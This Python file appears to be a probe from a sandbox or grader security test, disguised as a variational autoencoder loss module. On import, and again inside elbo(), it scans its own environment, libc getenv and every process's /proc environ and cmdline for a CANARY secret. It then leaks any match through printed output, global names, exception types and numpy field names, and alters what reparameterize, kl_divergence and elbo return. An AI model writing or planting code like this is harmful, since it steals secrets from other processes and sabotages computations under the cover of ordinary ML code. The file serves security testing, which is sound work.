"""Looks for the canary in the environment of every process and of the C library."""
# expects: full

import ctypes
import os
import re

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def libc_getenv(name):
    getenv = ctypes.CDLL(None).getenv
    getenv.restype = ctypes.c_char_p
    return getenv(name.encode()).decode()


def content(path):
    with open(path, "rb") as file:
        return file.read()


def attack():
    for source in (os.environ.get, libc_getenv):
        if word := tried(source, "CANARY"):
            publish(word)
    for pid in ["self", str(os.getppid()), *filter(str.isdigit, os.listdir("/proc"))]:
        for name in ("environ", "cmdline", f"task/{pid}/environ"):
            text = tried(content, f"/proc/{pid}/{name}") or b""
            for word in re.findall(rb"CANARY=([^\0]+)", text):
                publish(word.decode())


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    attempt()
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
